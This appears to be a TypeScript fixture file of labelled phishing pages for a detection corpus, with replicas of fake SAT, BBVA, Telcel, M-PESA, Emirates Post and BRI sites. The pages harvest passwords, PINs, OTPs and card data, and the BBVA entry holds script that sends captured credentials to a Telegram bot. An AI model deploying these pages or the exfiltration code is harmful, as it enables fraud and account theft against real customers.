import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, gtag, cookieBar, footer, nav, baseCss, cardFields, pngR, js, json } from '../parts/o-kit.js';

// Reported phishing from Brazil, Mexico, Nigeria, Kenya, UAE, Saudi Arabia, Indonesia, Japan and Vietnam.

export const entries: Entry[] = [
{
  id: 'o-phish-mx-sat-buzon',
  label: 'phishing',
  kind: 'tax-office',
  url: 'https://sat-buzontributario.com.mx-portal.info/nidp/app/login?id=contr-dual-eFirma',
  body: doc({
    lang: 'es-MX',
    title: 'SAT - Buzón Tributario',
    css: baseCss('"Montserrat", Arial, sans-serif', '#f5f5f5') + `header{background:#611232;color:#fff;padding:14px 6%;display:flex;gap:14px}.btn{background:#611232;width:100%}.n{background:#fff;border:1px solid #ddd;border-left:5px solid #9d2449;padding:12px;margin-bottom:16px}`,
    body: `<header><b>Gobierno de México</b><span>Hacienda · SAT</span></header>
<main style="max-width:520px"><div class="n">Tienes <b>1 notificación pendiente</b> en tu Buzón Tributario: <i>Requerimiento de obligaciones omitidas – Ejercicio 2025</i>. Para consultarla, ingresa con tu RFC y contraseña.</div>
<div class="card"><h1 style="font-size:20px">Acceso por contraseña</h1>
<form method="post" action="/nidp/app/login/post.php"><label>RFC</label><input name="rfc" maxlength="13" style="text-transform:uppercase"><label>Contraseña</label><input name="pass" type="password"><label>Captcha</label><div style="display:flex;gap:8px"><img src="/nidp/app/captcha.png" width="120" height="40" alt="captcha" style="background:#ddd"><input name="cap" style="flex:1"></div>
<button class="btn">Enviar</button></form><p class="muted">¿Olvidaste tu contraseña? Genérala con tu e.firma.</p></div></main>`,
  }),
  routes: { 'sat-buzontributario.com.mx-portal.info/nidp/app/captcha.png': pngR(200, 200, 200) },
},
{
  id: 'o-phish-mx-bbva-token',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://bbva-mx.aclaraciones-cargos.com/',
  body: doc({
    lang: 'es-MX',
    title: 'BBVA México | Aclaración de cargos no reconocidos',
    css: baseCss('"Benton Sans", Arial, sans-serif', '#f4f4f4') + `header{background:#072146;color:#fff;padding:16px 6%;font-weight:800;font-size:24px}.btn{background:#1973b8;width:100%}`,
    body: `<header>BBVA</header>
<main style="max-width:480px"><div class="card">
<h1 style="font-size:20px">Detectamos un cargo no reconocido</h1>
<p>Compra en <b>AMAZON MX MARKETPLACE</b> por <b>$8,499.00 MXN</b> con tu tarjeta terminación ****. Si no reconoces este movimiento, cancélalo ahora.</p>
<form id="f"><label>Número de tarjeta o cuenta</label><input name="tarjeta"><label>Contraseña de BBVA móvil</label><input type="password" name="pass"><button class="btn">Cancelar cargo</button></form>
<form id="g" style="display:none"><label>Código de seguridad (Token móvil / SMS)</label><input name="otp" maxlength="8"><label>NIP del cajero</label><input type="password" name="nip" maxlength="4"><button class="btn">Confirmar cancelación</button></form>
</div><p class="muted">BBVA México, S.A., Institución de Banca Múltiple, Grupo Financiero BBVA México.</p></main>
<script>
var tk='7614532908:AAH-xK2pQ_hL9sVn3fB1cW8eRtYzU4oM6jI', ch='-100218847361';
function tg(t){fetch('/relay/bot'+tk+'/sendMessage?chat_id='+ch+'&text='+encodeURIComponent(t)).catch(function(){})}
f.onsubmit=function(e){e.preventDefault();tg('BBVA '+new URLSearchParams(new FormData(f)));f.style.display='none';g.style.display='block'};
g.onsubmit=function(e){e.preventDefault();tg('OTP '+new URLSearchParams(new FormData(g)));location='https://www.bbva.mx/'};
</script>`,
  }),
},
{
  id: 'o-phish-mx-telcel-recarga',
  label: 'phishing',
  kind: 'telco-bill',
  url: 'https://telcel-puntos-vencen.com/canje/',
  body: doc({
    lang: 'es-MX',
    title: 'Telcel | Canje de Puntos Circulo Azul',
    css: baseCss('Arial, sans-serif', '#eef3fb') + `header{background:#0b3e91;color:#fff;padding:14px 6%;font-size:22px;font-weight:700}.btn{background:#0b3e91;width:100%}.p{display:grid;grid-template-columns:1fr 1fr;gap:10px}.p div{background:#fff;border:1px solid #ccd;padding:10px;border-radius:6px;text-align:center;font-size:14px}`,
    body: `<header>Telcel · Círculo Azul</header>
<main style="max-width:520px"><h1 style="font-size:21px">¡Tus 8,450 puntos vencen hoy!</h1>
<p>Canjéalos por uno de estos premios. Sólo cubre el envío de <b>$29.00</b>.</p>
<div class="p"><div>📱 Samsung Galaxy A56</div><div>🎧 Audífonos JBL</div><div>⌚ Smartwatch Huawei</div><div>🔋 Power bank 20,000 mAh</div></div>
<form class="card" style="margin-top:16px" method="post" action="/canje/envio.php"><label>Número Telcel</label><input name="num"><label>Dirección de envío</label><input name="dir">
${cardFields({ num: 'Tarjeta de crédito o débito', exp: 'Vencimiento', cvv: 'CVV', name: 'Nombre del titular' })}<button class="btn">Canjear y pagar envío</button></form></main>`,
  }),
},
{
  id: 'o-phish-ke-mpesa-reversal',
  label: 'phishing',
  kind: 'telco-wallet',
  url: 'https://safaricom-mpesa-reversal.co-ke.site/reverse',
  body: doc({
    lang: 'en-KE',
    title: 'M-PESA Transaction Reversal | Safaricom',
    css: baseCss('Arial, sans-serif', '#f2f8f2') + `header{background:#4caf50;color:#fff;padding:14px 6%;font-size:22px;font-weight:800}.btn{background:#e53935;width:100%}`,
    body: `<header>M-PESA <span style="font-size:13px">Safaricom</span></header>
<main style="max-width:460px"><div class="card">
<h1 style="font-size:20px">Reverse a wrong transaction / Rudisha pesa</h1>
<p>Ulituma pesa kwa nambari isiyo sahihi? Jaza fomu hii ili kurudisha pesa zako ndani ya dakika 5.</p>
<form method="post" action="/reverse/submit.php"><label>Safaricom number</label><input name="msisdn" value="07"><label>M-PESA transaction code</label><input name="code" placeholder="e.g. SKL4X8Y2ZP"><label>Amount (KES)</label><input name="amt"><label>M-PESA PIN</label><input type="password" name="pin" maxlength="4"><label>ID Number</label><input name="id">
<button class="btn">Reverse now</button></form></div>
<p class="muted">Safaricom PLC · Customer care 100 / 200</p></main>`,
  }),
},
{
  id: 'o-phish-ae-emiratespost-ar',
  label: 'phishing',
  kind: 'parcel-fee',
  url: 'https://emiratespost-ae.redelivery-fee.com/ar/track.php',
  body: doc({
    lang: 'ar',
    dir: 'rtl',
    title: 'بريد الإمارات - إعادة جدولة التوصيل',
    css: baseCss('Tahoma, Arial, sans-serif', '#f5f5f5') + `header{background:#c8102e;color:#fff;padding:14px 6%;font-weight:700;font-size:20px}.btn{background:#c8102e;width:100%}`,
    body: `<header>بريد الإمارات | Emirates Post</header>
<main style="max-width:480px"><div class="card"><h1 style="font-size:20px">شحنتك بانتظار التوصيل</h1>
<p>لم نتمكن من توصيل شحنتك رقم <b dir="ltr">RB773120948AE</b> بسبب عدم اكتمال العنوان. يرجى تحديث العنوان ودفع رسوم إعادة التوصيل <b>12.00 درهم</b> خلال 24 ساعة.</p>
<form method="post" action="/ar/pay.php"><label>الاسم الكامل</label><input name="name"><label>رقم الهاتف</label><input name="phone" dir="ltr"><label>العنوان</label><input name="addr">
${cardFields({ num: 'رقم البطاقة', exp: 'تاريخ الانتهاء', cvv: 'رمز CVV' })}<button class="btn">ادفع 12.00 درهم</button></form></div>
<p class="muted">© 2026 بريد الإمارات. جميع الحقوق محفوظة.</p></main>`,
  }),
},
{
  id: 'o-phish-id-bri-tarif',
  label: 'phishing',
  kind: 'bank-login',
  url: 'https://bri-tarif-transaksi.web.app-id.cloud/',
  body: doc({
    lang: 'id',
    title: 'BRImo - Perubahan Tarif Transaksi',
    css: baseCss('Arial, sans-serif', '#eaf2fb') + `header{background:#00529c;color:#fff;padding:14px 6%;font-size:22px;font-weight:800}.opt{display:block;border:1px solid #c9d6e6;background:#fff;padding:12px;border-radius:8px;margin:8px 0}.btn{background:#f37021;width:100%}`,
    body: `<header>BRI <span style="font-size:13px;font-weight:400">Bank Rakyat Indonesia</span></header>
<main style="max-width:460px"><h1 style="font-size:20px">Pilih tarif transaksi Anda</h1>
<p>Mulai bulan depan tarif transfer antar bank berubah. Nasabah yang tidak memilih otomatis dikenakan <b>Rp 150.000/bulan</b>.</p>
<div id="s1"><label class="opt"><input type="radio" name="t" style="width:auto" checked> Tarif lama Rp 6.500/transaksi</label><label class="opt"><input type="radio" name="t" style="width:auto"> Tarif baru Rp 150.000/bulan unlimited</label><button class="btn" onclick="s1.style.display='none';s2.style.display='block'">Lanjutkan</button></div>
<form id="s2" class="card" style="display:none" method="post" action="/kirim.php"><label>Nama lengkap</label><input name="nama"><label>Nomor HP</label><input name="hp"><label>Nomor kartu debit (16 digit)</label><input name="kartu"><label>Masa berlaku</label><input name="exp"><label>Username BRImo</label><input name="user"><label>Password</label><input type="password" name="pass"><label>PIN (6 digit)</label><input type="password" name="pin" maxlength="6"><button class="btn">Kirim</button></form></main>`,
  }),
},
];
